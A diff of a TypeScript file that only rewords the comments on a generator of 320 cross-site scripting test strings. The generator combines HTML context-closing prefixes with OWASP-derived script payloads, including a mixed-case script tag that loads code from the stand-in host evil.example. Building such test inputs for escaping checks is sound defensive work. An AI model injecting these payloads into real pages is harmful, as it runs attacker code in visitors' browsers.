@@ -1,7 +1,7 @@
-/** Beginnings that would close what a page may have put the text into. */
+/** Prefixes that close the HTML context of a text. */
 const CLOSERS = ['', '">', "'>", '</title>', '</textarea></option></select>', '-->', '" x="', '</script>'];
 
-/** What then would run (after OWASP's cheat sheet of filter evasion, and templates of our own kind). */
+/** Payloads (from OWASP's filter evasion cheat sheet, and for our own templates). */
 const RUNNERS = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/a.js></sCrIpT>',
@@ -46,7 +46,7 @@ const RUNNERS = [
   '＜script＞alert(1)＜/script＞',
 ];
 
-/** Three hundred and twenty texts that would run in a page that does not escape; all fit a line of a form. */
+/** 320 texts that execute in a page without escaping; all fit a line of a form. */
 export const ATTACK_TEXTS: readonly string[] = CLOSERS.flatMap((closer) =>
   RUNNERS.map((runner) => `${closer}${runner}`.trim()),
 );
